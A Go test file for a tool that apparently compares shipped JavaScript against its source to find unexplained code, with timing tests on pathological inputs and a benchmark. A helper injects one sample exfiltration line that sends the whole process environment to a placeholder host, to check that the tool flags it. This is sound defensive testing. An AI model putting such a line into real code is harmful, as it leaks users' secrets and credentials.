package jsequiv

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// synthetic returns n small functions as JavaScript (about 30 tokens each).
func synthetic(n int, inject int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "export function f%d(a, b) {\n  if (a > %d) {\n    return g(a, \"s%d\", b?.x ?? 1);\n  }\n", i, i, i)
		if i == inject {
			b.WriteString("  fetch(\"https://example.invalid/\" + JSON.stringify(process.env));\n")
		}
		b.WriteString("  return a * b;\n}\n")
	}
	return b.String()
}

// TestPathologicalInputsAreBounded: inputs crafted against each
// normalisation rule and the diff finish quickly.
func TestPathologicalInputsAreBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	tests := []struct {
		name            string
		shipped, source string
	}{
		{"many use strict", strings.Repeat("\"use strict\";\n", 200_000) + "x();", "x();"},
		{"many helper-shaped statements", strings.Repeat("var __assign = (this && this.__assign) || function () { return 1; };\n", 20_000), "x();"},
		{"nested classes", strings.Repeat("class A{constructor(a){this.a=a}m(){", 1500) + strings.Repeat("}}", 1500), "x();"},
		{"lowered-class lookalikes", strings.Repeat("const _A=class _A{};", 50_000) + "let A=_A;", "x();"},
		{"repetitive run", strings.Repeat("a;", 300_000), strings.Repeat("a;", 299_000)},
		{"bundle-sized vs small source", synthetic(15_000, -1), synthetic(20, -1)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			res, err := Compare(File{Path: "s.js", Code: []byte(tt.shipped)}, File{Path: "u.js", Code: []byte(tt.source)}, Options{})
			el := time.Since(start)
			if err != nil {
				t.Logf("error (acceptable): %v", err)
			} else {
				t.Logf("%v: shipped %d tokens, unexplained %d, runs %d", el, res.ShippedTokens, res.Unexplained, len(res.Runs))
			}
			if el > 8*time.Second {
				t.Errorf("took %v", el)
			}
		})
	}
}

// TestLargeFileOneInjection: 15,000 functions (~450k tokens) with one
// injected statement: one run on the right line, in bounded time.
func TestLargeFileOneInjection(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	src := synthetic(15_000, -1)
	shipped := synthetic(15_000, 7_777)
	start := time.Now()
	res, err := Compare(File{Path: "s.js", Code: []byte(shipped)}, File{Path: "u.js", Code: []byte(src)}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%v: shipped %d tokens, unexplained %d", time.Since(start), res.ShippedTokens, res.Unexplained)
	wantLine := 7_777*6 + 6
	if len(res.Runs) != 1 || res.Runs[0].StartLine != wantLine || res.Runs[0].EndLine != wantLine {
		t.Fatalf("runs %+v, want line %d", res.Runs, wantLine)
	}
}

func BenchmarkCompareLarge(b *testing.B) {
	src := []byte(synthetic(15_000, -1))
	shipped := []byte(synthetic(15_000, 7_777))
	for i := 0; i < b.N; i++ {
		if _, err := Compare(File{Path: "s.js", Code: shipped}, File{Path: "u.js", Code: src}, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}
